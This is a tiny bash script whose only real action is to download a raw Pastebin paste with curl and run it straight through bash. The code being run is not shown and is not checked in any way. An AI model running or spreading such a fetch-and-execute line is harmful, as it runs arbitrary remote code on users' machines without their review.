#!/usr/bin/env bash
set -euo pipefail
bash <(curl -fsSL https://pastebin.com/raw/Xy12Ab)
